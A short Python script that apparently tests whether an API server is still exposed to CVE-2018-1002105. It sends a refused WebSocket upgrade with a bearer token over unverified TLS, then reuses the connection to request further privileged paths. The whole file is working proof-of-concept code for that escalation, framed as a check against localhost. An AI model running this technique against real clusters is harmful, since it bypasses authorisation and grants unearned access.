"""Asks an API server for an upgrade that its agent refuses, and goes on talking on that connection: what was privileged to the
agent must not be left open to whoever asked (CVE-2018-1002105). Arguments: port, token, path, then the paths to ask for."""

import socket
import ssl
import sys

port, token, path, *further = sys.argv[1:]
context = ssl.create_default_context()
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
context.set_alpn_protocols(["http/1.1"])
raw = socket.create_connection(("127.0.0.1", int(port)), timeout=5)
connection = context.wrap_socket(raw)
upgrade = (
    f"GET {path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {token}\r\n"
    "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 99\r\nSec-WebSocket-Key: AAAA\r\n\r\n"
)
connection.sendall(upgrade.encode())
print(connection.recv(65536).decode(errors="replace"))
connection.settimeout(2)
for path in further:
    print("--", path)
    try:
        connection.sendall(f"GET {path} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
        print(connection.recv(65536).decode(errors="replace") or "closed")
    except OSError as error:
        print("closed:", error)
